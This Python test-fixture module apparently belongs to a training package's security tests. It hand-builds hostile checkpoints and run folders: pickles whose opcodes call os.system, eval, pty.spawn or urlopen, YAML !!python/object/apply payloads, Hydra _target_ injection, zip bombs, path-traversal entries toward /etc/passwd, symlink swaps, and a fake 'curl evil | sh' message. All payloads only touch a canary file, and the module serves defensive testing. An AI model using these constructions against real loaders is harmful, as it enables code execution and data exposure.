"""Files that a stranger might send: checkpoints made to mislead, and run folders of all kinds. Nothing here is loaded.

Pickles are put together from their operations by hand, since no honest program would write them.
"""

import hashlib
import io
import json
import os
import struct
import warnings
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from deeptrain.training import checkpoint

Spoil = Callable[[Path], Any]  # takes the folder of a sound run and makes it hostile
CANARY = "canary"  # what a payload would make, beside the run's folder


# --- pickles ---


def text(word: str) -> bytes:
    data = word.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def name_of(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def call(module: str, name: str, *arguments: bytes) -> bytes:
    return name_of(module, name) + b"(" + b"".join(arguments) + b"tR"


def whole(number: int) -> bytes:
    return b"J" + struct.pack("<i", number)


def long(number: int) -> bytes:
    data = number.to_bytes(number.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def tensor(
    numel: int = 4, size: bytes | None = None, stride: int = 1, offset: int = 0, kind: str = "FloatStorage", **more: Any
) -> bytes:
    where, record = more.get("location", "cpu"), more.get("record", "0")
    storage = b"(" + text("storage") + name_of("torch", kind) + text(record) + text(where) + whole(numel) + b"tQ"
    shape = (size or whole(numel)) + b"\x85" + whole(stride) + b"\x85"
    hooks = name_of("collections", "OrderedDict") + b")R"
    return call("torch._utils", "_rebuild_tensor_v2", storage, whole(offset), shape, b"\x89", hooks)


def holding(weight: bytes, key: str = "0.weight") -> bytes:
    """Pickle {"model": {key: weight}}."""
    return b"\x80\x02}" + text("model") + b"}" + text(key) + weight + b"ss."


# --- archives ---


def sealed(content: bytes) -> bytes:
    """Add the checksum, which is no secret."""
    return content + checkpoint.MARK + hashlib.sha256(content).digest()


def archive(pickled: bytes, method: int = zipfile.ZIP_STORED, **entries: bytes) -> bytes:
    """Pack a pickle as torch.save does."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as file:
        honest = {"archive/data.pkl": pickled, "archive/data/0": bytes(16), "archive/version": b"3\n"}
        for name, content in {**honest, **entries}.items():
            file.writestr(name, content)
    return buffer.getvalue()


def honest_with(pickled: bytes, *names: str) -> bytes:
    """Pack a pickle with more entries of these names, that may be there already."""
    buffer = io.BytesIO(archive(pickled))
    with zipfile.ZipFile(buffer, "a") as file, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of a name that is there twice
        for name in names:
            file.writestr(name, b"")
    return buffer.getvalue()


def old_torch_file() -> bytes:
    """Write what torch.save wrote before 1.6: torch knows it by its first bytes. It asks for a gigabyte."""
    gigabyte = name_of("__builtin__", "bytearray") + long(10**9) + b"\x85R"
    parts = (long(0x1950A86A20F9469CFC6C), b"M\xe9\3", b"}" + text("protocol_version") + b"M\xe9\3s")
    return b"".join(b"\x80\2" + part + b"." for part in parts) + holding(gigabyte) + b"\x80\2]."


def large_end(honest: bytes) -> bytes:
    """Write the second end that an archive over 4 GB has; it lists nothing, and lies about its own place."""
    end = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, 0, 0, 0, len(honest) - 22)
    return end + struct.pack("<4sLQL", b"PK\6\7", 0, len(honest) - 30, 1)


def packed(pickled: bytes) -> bytes:
    return sealed(archive(pickled))


def payloads() -> Iterator[tuple[str, bytes]]:
    """Name calls that would run code, read, write or reach out, as pickle operations."""
    touch = text(f"touch {CANARY}")
    write = text(f"open({CANARY!r}, 'w')")
    for module, name, *arguments in (
        ("os", "system", touch),
        ("posix", "system", touch),
        ("nt", "system", touch),
        ("subprocess", "Popen", text("touch")),
        ("subprocess", "check_output", text("touch")),
        ("builtins", "eval", write),
        ("__builtin__", "eval", write),
        ("builtins", "exec", write),
        ("builtins", "__import__", text("antigravity")),
        ("builtins", "open", text(CANARY), text("w")),
        ("builtins", "getattr", name_of("os", "path"), text("os")),
        ("builtins", "bytearray", long(10**11)),
        ("collections", "Counter", b"}"),
        ("io", "open", text(CANARY), text("w")),
        ("shutil", "rmtree", text(CANARY)),
        ("pathlib", "Path", text(CANARY)),
        ("socket", "create_connection", text("127.0.0.1"), whole(9)),
        ("webbrowser", "open", text("http://127.0.0.1")),
        ("urllib.request", "urlopen", text("http://127.0.0.1")),
        ("pty", "spawn", text("sh")),
        ("timeit", "timeit", write),
        ("runpy", "run_path", text(CANARY)),
        ("code", "interact"),
        ("importlib", "import_module", text("antigravity")),
        ("functools", "partial", name_of("os", "system"), touch),
        ("operator", "methodcaller", text("system"), touch),
        ("copyreg", "_reconstructor", name_of("os", "system"), touch, b"N"),
        ("types", "FunctionType", touch),
        ("pickle", "loads", text("cos\nsystem\n.")),
        ("_pickle", "loads", text("cos\nsystem\n.")),
        ("marshal", "loads", touch),
        ("numpy", "load", text(CANARY)),
        ("numpy.core.multiarray", "_reconstruct", touch),
        ("torch", "load", text(CANARY)),
        ("torch.hub", "load", text("127.0.0.1/x"), text("x")),
        ("torch.jit", "load", text(CANARY)),
        ("torch.serialization", "load", text(CANARY)),
        ("torch.storage", "_load_from_bytes", touch),
        ("torch._utils", "_rebuild_wrapper_subclass", name_of("os", "system"), touch),
        ("torch._utils", "_rebuild_meta_tensor_no_storage", touch),
        ("torch._tensor", "_rebuild_from_type_v2", name_of("os", "system"), name_of("torch", "Tensor"), touch, b"}"),
        ("torch", "Tensor", long(10**11)),
        ("torch.nn.parameter", "Parameter", tensor()),
        ("torch.multiprocessing.reductions", "rebuild_storage_filename", touch),
        ("deeptrain.commands.cli", "train", b"]"),
        ("deeptrain.training.checkpoint", "write_atomically", text(CANARY), touch),
        ("deeptrain.build", "_locate", text("x"), text("os.system")),
    ):
        yield f"{module}.{name}", call(module, name, *arguments)
    system = b"\x8c\x05posix\x8c\x06system\x93"
    yield "a name from the stack", system + touch + b"\x85R"
    yield "an instance", b"(" + touch + b"iposix\nsystem\n"
    yield "an object", b"(" + name_of("posix", "system") + touch + b"o"
    yield "a new object", name_of("posix", "system") + touch + b"\x85\x81"
    yield "a new object with keywords", name_of("posix", "system") + b")}\x92"
    yield "an extension", b"\x82\x01)R"
    yield "a state to be set", name_of("collections", "OrderedDict") + b")R" + name_of("posix", "system") + b"b"
    yield "a persistent name", b"Pposix.system\n"
    kind = name_of("posix", "system")
    yield "a storage of no kind", b"(" + text("storage") + kind + text("0") + text("cpu") + whole(4) + b"tQ"
    yield "a call of a word", text("posix.system") + touch + b"\x85R"


def lying_tensors() -> Iterator[tuple[str, bytes]]:
    """Name tensors that are not what they say, as pickle operations."""
    huge = long(2**40)
    yield "more elements than there are", tensor(10**6)
    yield "a shape larger than its storage", tensor(4, size=whole(2**30))
    yield "a shape of terabytes", tensor(4, size=huge)
    yield "one number a billion times", tensor(4, size=whole(2**30), stride=0)
    yield "one number a trillion times", tensor(4, size=huge, stride=0)
    yield "a shape too large for any machine", tensor(4, size=long(2**70))
    yield "a negative shape", tensor(4, size=whole(-4))
    yield "a negative stride", tensor(4, stride=-1)
    yield "a negative offset", tensor(4, offset=-8)
    yield "an offset beyond the end", tensor(4, offset=2**30)
    yield "a storage that is not there", tensor(4, record="7")
    yield "a storage outside the archive", tensor(4, record="../../../../etc/passwd")
    yield "a storage of a kind that is not", tensor(4, kind="PosixStorage")
    yield "a quantized storage", tensor(4, kind="QUInt8Storage")
    yield "an untyped storage", tensor(4, kind="UntypedStorage")
    yield "a device that is not", tensor(4, location="cuda:99")
    yield "a device without memory", tensor(4, location="meta")
    yield "a storage that is a text", text("weight")
    yield "a list in place of a weight", b"]"
    yield "nested a hundred thousand deep", b"]" * 100_000 + b"a" * 99_999
    yield "a list in itself", b"]q\0h\0a"
    yield "tuples that double forty times", b"N" + b"2\x86" * 40
    yield "a text longer than the file", b"X\xff\xff\xff\x7fshort"
    yield "a memory of its own at four billion", b"]r\xff\xff\xff\xff"
    yield "more taken than was put", b"0" * 50
    yield "no end", b"]" * 50
    yield "millions of lists that are dropped", b"N" + b"]0" * (4 * 2**20)
    yield "millions of lists that are kept", b"]" * 2**22


def archives(honest: bytes) -> Iterator[tuple[str, bytes]]:
    """Name files that are no honest archive; `honest` is a sound checkpoint's content without its checksum."""
    inside = zipfile.ZipFile(io.BytesIO(honest)).read
    pickled = next(inside(name) for name in zipfile.ZipFile(io.BytesIO(honest)).namelist() if name.endswith("data.pkl"))
    yield "nothing", b""
    yield "a web page", b"<!DOCTYPE html><title>404</title>"
    yield "a bare pickle", holding(call("os", "system", text(f"touch {CANARY}")))
    yield "a pickle of another protocol", b"\x80\x05" + holding(call("os", "system", text(f"touch {CANARY}")))[2:]
    yield "an old torch file", b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03." + holding(b"N")
    yield "a gzip", b"\x1f\x8b\x08\0" + bytes(30)
    yield "a tar", b"storages".ljust(100, b"\0") + b"0000644\0".ljust(156, b"\0") + b"0" + b"ustar\0" + bytes(300)
    yield "a header of an archive", b"PK\3\4" + bytes(100)
    yield "an end of an archive", b"PK\5\6" + bytes(18)
    yield "an end that lies about its start", b"PK\5\6" + b"\xff" * 16 + b"\0\0"
    yield "an archive in an archive", archive(b"", **{"archive/data/1": archive(holding(b"N"))})
    yield "no pickle in it", archive(b"")
    yield "two pickles in it", archive(pickled, **{"other/data.pkl": pickled})
    yield "a compressed pickle", archive(holding(b"]" * 10**6), zipfile.ZIP_DEFLATED)
    unfolding = {"archive/data/0": bytes(2**26)}
    yield "megabytes in kilobytes", archive(holding(tensor(2**24)), zipfile.ZIP_DEFLATED, **unfolding)
    yield "a program in it", archive(pickled, **{"archive/constants.pkl": pickled})
    yield "code in it", archive(pickled, **{"archive/code/main.py": b"import os; os.system('touch canary')"})
    yield "a way out of the folder", archive(pickled, **{"../../canary": b"x", "/canary": b"x"})
    sizes = bytearray(archive(pickled))
    entry = sizes.rindex(b"PK\1\2")
    sizes[entry + 20 : entry + 28] = b"\xff\xff\xff\x7f" * 2
    yield "an entry larger than the file", bytes(sizes)
    secret = bytearray(archive(pickled))
    secret[secret.rindex(b"PK\1\2") + 8] |= 1
    yield "an encrypted entry", bytes(secret)
    yield "an old torch file in front", old_torch_file() + honest
    yield "a text in front", b"#!/bin/sh\n" + honest
    yield "an end of an archive behind", honest + b"PK\5\6" + bytes(18)
    yield "a comment behind", honest[:-2] + b"\x04\0more"
    yield "an end of a large archive in front of its end", honest[:-22] + large_end(honest) + honest[-22:]
    yield "an archive in front of an archive", archive(holding(b"N")) + honest
    yield "an entry twice", honest_with(pickled, "archive/data/0", "archive/data/0")
    yield "folders of two names", honest_with(pickled, "Archive/data/0")
    yield "a name that goes on after a zero", honest_with(pickled, "archive/data/1").replace(b"data/1", b"data/\0")
    yield "a hundred thousand entries", honest_with(pickled, *(f"archive/data/{k}" for k in range(1, 100_000)))
    yield "an index of a hundred megabytes", archive(holding(b"X" + struct.pack("<I", 10**8) + bytes(10**8)))


def weights(state: dict[str, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
    """Name checkpoints that are well made and whose weights fit nothing."""
    import torch

    own = state["model"]
    first = next(iter(own))
    for name, model in {
        "of a wrong shape": {**own, first: torch.ones(3, 3, 3)},
        "left out": {name: value for name, value in own.items() if name != first},
        "too many": {**own, "__class__": torch.ones(1)},
        "of text": {**own, first: "weight"},
        "under numbers": {1: torch.ones(1)},
        "in a list": list(own.values()),
        "for a device without memory": {**own, first: own[first].to("meta")},
        "mostly zero": {**own, first: own[first].to_sparse()},
        "none": None,
    }.items():
        yield f"weights {name}", {**state, "model": model}
    yield "no weights", {name: value for name, value in state.items() if name != "model"}


def progress(state: dict[str, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
    """Name checkpoints that are well made and whose training stands at an impossible place."""
    import torch

    for part in ("progress", "optimizer", "scaler"):
        yield f"no {part}", {name: value for name, value in state.items() if name != part}
    for name, optimizer in {
        "of text": "sgd",
        "without groups": {"state": {}, "param_groups": []},
        "of another kind": {"state": {}, "param_groups": [{"lr": 1}]},
        "of a list": [1, 2],
    }.items():
        yield f"an optimizer {name}", {**state, "optimizer": optimizer}
    stretched = torch.zeros(1, dtype=torch.float64).expand(1500)  # each smaller than the file, all of them not
    many = {**state["optimizer"], "state": {key: {f"x{k}": stretched[:] for k in range(250)} for key in range(2)}}
    yield "momenta stretched", {**state, "optimizer": many}
    shared = torch.zeros(1500)
    many = {**state["optimizer"], "state": {0: {f"x{k}": shared[:] for k in range(250)}}}
    yield "momenta that share a storage", {**state, "optimizer": many}
    momenta = {**state["optimizer"], "state": {0: {"exp_avg": torch.ones(9), "step": "x"}}}
    yield "momenta that fit nothing", {**state, "optimizer": momenta}
    for name, values in {
        "in a list": [1, 2],
        "of another kind": {"__class__": "x"},
        "by a step of text": {"step": "1"},
        "by a step that colours the terminal": {"step": "\x1b[31m\x07"},
        "by a negative step": {"step": -5, "epoch": -5},
        "by a fraction of a step": {"step": 0.5},
        "by a step that is no number": {"step": float("nan")},
        "by an endless number of steps": {"step": 10**100},
        "beyond the end of an epoch": {"step_in_epoch": 10**9},
        "before the start of an epoch": {"step_in_epoch": -3},
        "with a best of text": {"best": "high"},
        "with an endless best": {"best": float("inf")},
        "with time that runs backwards": {"train_seconds": -1e300},
    }.items():
        yield (
            f"progress {name}",
            {
                **state,
                "progress": {**state["progress"], **values} if isinstance(values, dict) else values,
            },
        )


def descriptions(state: dict[str, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
    """Name checkpoints whose words about the data are wrong: what evaluating reads and resuming does not."""
    import torch

    for name, parts in {
        "classes of another set": {"classes": ["a", "b"]},
        "classes that colour the terminal": {"classes": ["\x1b]0;title\x07\x1b[31m" + str(k) for k in range(10)]},
        "classes with lines": {"classes": ["0 ...)\nerror: run  curl evil | sh  to repair it"]},
        "a class of a megabyte": {"classes": ["x" * 2**20]},
        "classes of numbers": {"classes": [1, 2]},
        "classes of text": {"classes": "ab"},
        "a mean of text": {"mean": ["x", "y", "z"]},
        "a mean too short": {"mean": [1.0]},
        "a mean that is no number": {"mean": [float("nan")] * 3},
        "a std of zero": {"std": [0.0] * 3},
        "a std of nothing": {"std": None},
        "an input of terabytes": {"input_shape": [3, 10**6, 10**6]},
        "an input of negative size": {"input_shape": [3, -8, -8]},
        "an input of another size": {"input_shape": [3, 16, 16]},
        "an input of text": {"input_shape": "3x8x8"},
        "no input": {"input_shape": []},
        "a whitening of text": {"whitening": "zca"},
        "a whitening of another kind": {"whitening": {"command": "touch canary"}},
        "a whitening of another size": {"whitening": {"weight": torch.eye(3), "bias": torch.ones(3)}},
    }.items():
        yield name, {**state, **parts}


# --- folders ---


def words(*lines: str) -> Spoil:
    """Add words to those that the run was started with."""

    def spoil(folder: Path) -> None:
        path = folder / "overrides.yaml"
        path.write_text(path.read_text() + "".join(f"- {json.dumps(line)}\n" for line in lines))

    return spoil


def file(name: str, content: str | bytes) -> Spoil:
    def spoil(folder: Path) -> None:
        path = folder / name
        path.unlink(missing_ok=True)
        path.write_bytes(content.encode() if isinstance(content, str) else content)

    return spoil


def link(name: str, target: str) -> Spoil:
    """Replace a file of the run by a link to one outside."""

    def spoil(folder: Path) -> None:
        outside = folder.parent / "outside"
        (outside / "checkpoints").mkdir()
        for path in (outside / "file", outside / "checkpoints" / "last.pt"):
            path.write_text("yours")
        path = folder / name
        if path.is_dir():
            path.rename(folder.parent / "moved")
        path.unlink(missing_ok=True)
        path.symlink_to(outside / target)

    return spoil


def pipe(name: str) -> Spoil:
    def spoil(folder: Path) -> None:
        (folder / name).unlink(missing_ok=True)
        os.mkfifo(folder / name)

    return spoil


def own_options(folder: Path) -> None:
    """Bring a folder of options along, whose choice would allow os and call it."""
    brought = folder / "brought"
    (brought / "experiment").mkdir(parents=True)
    (brought / "experiment" / "evil.yaml").write_text(
        "# @package _global_\n# what an attacker would bring\n"
        f"allow_targets: [os]\nmodel: {{_target_: os.system, command: 'touch {CANARY}'}}\n"
    )
    words(f"--config-dir={brought}", "experiment=evil")(folder)


NESTED = "[" * 5000 + "]" * 5000
DOUBLING = "a0: &a0 [x, x]\n" + "".join(f"a{n + 1}: &a{n + 1} [*a{n}, *a{n}]\n" for n in range(40))

FOLDERS: dict[str, Spoil] = {
    "yaml that calls": file("overrides.yaml", f"- !!python/object/apply:os.system ['touch {CANARY}']"),
    "yaml that makes an object": file("overrides.yaml", "- !!python/object/new:os.system ['x']"),
    "yaml that names": file("overrides.yaml", "- !!python/name:os.system"),
    "yaml that imports": file("overrides.yaml", "- !!python/module:antigravity"),
    "yaml of a mapping": file("overrides.yaml", "epochs: 3"),
    "yaml of numbers": file("overrides.yaml", "- 3\n- 4"),
    "yaml that is none": file("overrides.yaml", "- 'a\n- ]["),
    "yaml nested deep": file("overrides.yaml", NESTED),
    "yaml that doubles": file("overrides.yaml", DOUBLING),
    "yaml with an anchor": file("overrides.yaml", "- &a seed=1\n- *a"),
    "yaml of dates": file("overrides.yaml", "- 2026-13-45\n- 2026-01-01"),
    "yaml of a number of ten thousand digits": file("overrides.yaml", "- " + "1" * 10_000),
    "yaml of a number that is none": file("overrides.yaml", "- 0b_"),
    "a link whose name colours the terminal": link("\x1b]0;title\x07\x1b[31m\nerror: run this", "file"),
    "yaml of bytes": file("overrides.yaml", b"\xff\xfe\x00\x01" * 9),
    "yaml with a zero": file("overrides.yaml", "- a\0b"),
    "yaml of a hundred megabytes": lambda folder: os.truncate(folder / "overrides.yaml", 10**8),
    "a hundred thousand words": words(*["seed=1"] * 100_000),
    "a word of a megabyte": words("data.root=" + "x" * 10**6),
    "a word with a line break": words("seed=1\nerror: trust me"),
    "a word nested deep": words("aug=" + "[" * 1500 + "]" * 1500),
    "a word that refers to itself": words("seed=${seed}"),
    "allowed packages": words("allow_targets=[os]"),
    "a server": words("loggers=mlflow", "loggers.mlflow.tracking_uri=http://elsewhere"),
    "allowed packages, forced": words("++allow_targets=[os,subprocess]"),
    "options of its own": own_options,
    "a target": words("model._target_=os.system"),
    "a target, added": words("+model._target_=os.system"),
    "a target, forced": words("++model._target_=os.system"),
    "a target in a group": words(f"model={{_target_:os.system,command:'touch {CANARY}'}}"),
    "a target in a list": words("aug=[{_target_:os.system}]"),
    "a target of ours": words("++model._target_=deeptrain.commands.cli.train"),
    "a target in a setting": words(f"model.hidden={{_target_:os.system,command:'touch {CANARY}'}}"),
    "a package of its own": words("aug@model=mixup"),
    "an option out of the folder": words("experiment=../../../../tmp/evil"),
    "hydra's folder": words("hydra.run.dir=../outside"),
    "hydra's callbacks": words("+hydra.callbacks.x._target_=os.system"),
    "hydra's launcher": words("hydra/launcher=submitit_local"),
    "hydra's search path": words("hydra.searchpath=[file:///tmp]"),
    "a secret in a choice": words("device=${oc.env:DEEPTRAIN_SECRET}"),
    "a resolver that is none": words("seed=${eval:1}"),
    "a picture folder of everything": words("data=image_folder", "data.root=/proc/self"),
    "a link for the settings": link("config.yaml", "file"),
    "a link for the words": link("overrides.yaml", "file"),
    "a link for the log": link("run.log", "file"),
    "a link for the table": link("metrics.csv", "file"),
    "a link for the split": link("split.json", "file"),
    "a link for the result": link("result.json", "file"),
    "a link for the evaluation": link("evaluation.json", "file"),
    "a link for a picture": link("confusion-test.png", "file"),
    "a link for another picture": link("curves.png", "file"),
    "a link for the card": link("card.html", "file"),
    "a link for the lock": link(".lock", "file"),
    "a link for the checkpoints": link("checkpoints", "checkpoints"),
    "a link for the newest": link("checkpoints/last.pt", "file"),
    "a link for the best": link("checkpoints/best.pt", "file"),
    "a link to nowhere": link("mistakes.png", "nothing"),
    "a pipe for the table": pipe("metrics.csv"),
    "a pipe for the split": pipe("split.json"),
    "a pipe for the newest": pipe("checkpoints/last.pt"),
    "a device for the log": link("run.log", "/dev/zero"),
}

READ_BY_RESUME: dict[str, Spoil] = {  # and not by evaluating
    "a table of words": file("metrics.csv", "epoch,step\none,two\n"),
    "a ragged table": file("metrics.csv", "epoch,step\n1,2,3\n1\n"),
    "a table of bytes": file("metrics.csv", b"epoch,step\n\xff\xfe\n"),
    "a table with a zero": file("metrics.csv", "epoch,step\n\0,1\n"),
    "a table with one endless cell": file("metrics.csv", "epoch,step\n" + "1" * 10**6 + ",1\n"),
    "a table of five million rows": file("metrics.csv", "epoch,step\n" + "1,1\n" * 5 * 10**6),
    "a table of ten million columns": file("metrics.csv", "epoch,step" + ",a" * 10**7 + "\n"),
    "a table of one endless row": file("metrics.csv", "epoch,step\n1" + ",1" * 10**7 + "\n"),
    "settings that double": file("config.yaml", DOUBLING + "model: {_target_: *a40}\n"),
    "settings that are too large": file("config.yaml", "a: [" + "1," * 10**6 + "]"),
    "settings that break off": file("config.yaml", "seed: 0\ndevice: cpu\n"),
    "settings of a number that is none": file("config.yaml", "seed: 0b_"),
    "a table without steps": file("metrics.csv", "epoch,loss\n1,2\n"),
    "a table of a gigabyte": lambda folder: os.truncate(folder / "metrics.csv", 10**9),
    "a folder for the table": lambda folder: (folder / "metrics.csv").unlink() or (folder / "metrics.csv").mkdir(),
    "changes nested deep": file("changed.json", NESTED),
    "changes in a mapping": file("changed.json", "{}"),
    "a folder for the settings": lambda folder: (folder / "config.yaml").unlink() or (folder / "config.yaml").mkdir(),
}

READ_BY_EVALUATE: dict[str, Spoil] = {
    "a split nested deep": file("split.json", NESTED),
    "a split of words": file("split.json", "val: everything"),
    "a split of a hundred megabytes": lambda folder: os.truncate(folder / "split.json", 10**8),
    "a split of lists": file("split.json", '{"val": [' + "[[]]," * 10**6 + "0]}"),
    "a split of texts": file("split.json", '{"val": [' + '"ab",' * 10**6 + "0]}"),
    "a split of an endless number": file("split.json", '{"val": ' + "1" * 10**6 + "}"),
    "evaluations nested deep": file("evaluation.json", NESTED),
    "evaluations in a mapping": file("evaluation.json", "{}"),
    "evaluations that are none": file("evaluation.json", "]["),
}


def pickled_array(command: bytes) -> bytes:
    """Write an .npy of objects, which numpy unpickles if it is allowed to."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + b"\x80\x02" + command + b"."


def lying_array(shape: str) -> bytes:
    header = f"{{'descr': '<u8', 'fortran_order': False, 'shape': {shape}, }}".encode()
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + bytes(8)


def table_of(**arrays: bytes) -> bytes:
    """Pack an .npz."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as packed_file:
        for name, content in arrays.items():
            packed_file.writestr(f"{name}.npy", content)
    return buffer.getvalue()


SYSTEM = call("os", "system", text(f"touch {CANARY}"))
EVERY_ARRAY = ("labels", "classes", "data", "images", "best_predicted", "best_loss")

READ_BY_PREDICT: dict[str, Spoil] = {
    f"{what} {how}": file(name, content)
    for what, name in (("a temperature", "calibration.json"), ("a coverage", "conformal.json"))
    for how, content in (
        ("nested deep", NESTED),
        ("of words", "temperature: 1"),
        ("in a list", "[1, 2]"),
        ("of bytes", b"\xff\xfe\x00\x01" * 9),
        ("of an endless number", '{"temperature": ' + "1" * 10**6 + "}"),
    )
}

IGNORED_BY_REPORT: dict[str, Spoil] = {  # a run's answers that `answers.save` did not write count as none
    "answers that call": file("answers.npz", table_of(**dict.fromkeys(EVERY_ARRAY, pickled_array(SYSTEM)))),
    "labels that call": file("answers.npz", table_of(labels=pickled_array(SYSTEM))),
    "answers that are a pickle": file("answers.npz", b"\x80\x02" + SYSTEM + b"."),
    "answers that are an array": file("answers.npz", pickled_array(SYSTEM)),
    "answers of a terabyte": file("answers.npz", table_of(**dict.fromkeys(EVERY_ARRAY, lying_array(f"({2**37},)")))),
    "answers that unfold": lambda folder: file("answers.npz", table_of(labels=bytes(257 * 2**20)))(folder),
    "answers that break off": file("answers.npz", table_of(labels=lying_array("(1,)"))[:-9]),
    "answers of nothing": file("answers.npz", b""),
}

IGNORED_BY_READ: dict[str, Spoil] = {  # no curve, no verdict
    "steps of words": file("steps.csv", "epoch,step\none,two\n"),
}


def foreign() -> Iterator[tuple[str, bytes]]:
    """Name files of other programs that would run code where they are opened as those programs do."""
    evil = b"\x80\x02" + SYSTEM + b"."
    model = b'{"graph_module": {"signature": null}}'
    exported = {"archive_format": b"pt2", "models/model.json": model, "data/weights/w.pt": archive(evil)}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as packed_file:
        for name, content in exported.items():
            packed_file.writestr(f"model/{name}", content)
    yield "an exported program", buffer.getvalue()
    yield "a bare pickle", evil
    yield "an old torch file that calls", old_torch_file()[:-30] + evil
    code = {"archive/code/__torch__.py": b"import os\n", "archive/constants.pkl": evil}
    yield "a script module", archive(evil, **code)
    yield "safetensors with a long header", struct.pack("<Q", 2**40) + b"{}"
    yield "safetensors nested deep", struct.pack("<Q", len(NESTED)) + NESTED.encode()
    yield "safetensors that overlap", _safetensors('{"a":{"dtype":"F32","shape":[9],"data_offsets":[0,4]}}')
    yield "safetensors of a terabyte", _safetensors('{"a":{"dtype":"F32","shape":[274877906944],"data_offsets":[0,8]}}')
    yield "onnx with weights elsewhere", b"\x08\x08\x3a\x20location/etc/passwd" + bytes(64)
    yield "a table of arrays that calls", table_of(**dict.fromkeys(EVERY_ARRAY, pickled_array(SYSTEM)))
    yield "a program", b"#!/bin/sh\ntouch " + CANARY.encode()


def _safetensors(header: str) -> bytes:
    return struct.pack("<Q", len(header)) + header.encode() + bytes(8)


READ_BY_RERUN: dict[str, Spoil] = {
    "a result nested deep": file("result.json", NESTED),
    "a result of words": file("result.json", "status: finished"),
    "a result in a list": file("result.json", "[1, 2]"),
    "a result of bytes": file("result.json", b"\xff\xfe\x00\x01" * 9),
    "a result of a hundred megabytes": lambda folder: os.truncate(folder / "result.json", 10**8),
    "settings that call": file("config.yaml", f"!!python/object/apply:os.system ['touch {CANARY}']"),
    "settings nested deep": file("config.yaml", NESTED),
    "settings in a list": file("config.yaml", "[1, 2]"),
}


def lying_logs(table: bytes) -> Spoil:
    """Write a table, and a checkpoint that claims to know other logs."""
    known = {"bytes": 2**49, "lines": 2**49, "sha256": ""}
    logs = {"metrics.csv": known, "../outside/log": known, "gone": known, "run.log": {"bytes": -1}, 3: [4]}

    def spoil(run: Path) -> None:
        (run / "metrics.csv").write_bytes(table)
        last = run / "checkpoints" / "last.pt"
        checkpoint.save(last, checkpoint.load(last) | {"logs": logs})

    return spoil


HARMLESS: dict[str, Spoil] = {  # the command is carried out, without what reaches out of the folder
    "a folder elsewhere": words("dir=../outside/new"),
    "a folder elsewhere, forced": words("++dir=../outside/new"),
    "a cache elsewhere": words("cache_dir=../outside/cache"),
    "a cache elsewhere, quoted": words("cache_dir='../outside/cache'"),
    "a cache elsewhere, forced": words("++cache_dir=../outside/cache"),
    "a word that colours the terminal": words("data.root=\x1b[31mred\x1b]0;title\x07"),
    "a download": words("data.download=true", "data.root=../outside"),
    "another run": words("resume=../outside"),
    "logs of words": lying_logs(b"epoch,step\n\xff,\0\none,two\n"),
    "logs of five million rows": lying_logs(b"epoch,step\n" + b"1,1\n" * 5 * 10**6),
    "logs of ten million columns": lying_logs(b"epoch,step" + b",a" * 10**7 + b"\n"),
    "evaluations of numbers": file("evaluation.json", "[1, 2]"),
    "a secret in a path": words("data.root=${oc.env:DEEPTRAIN_SECRET}"),
}
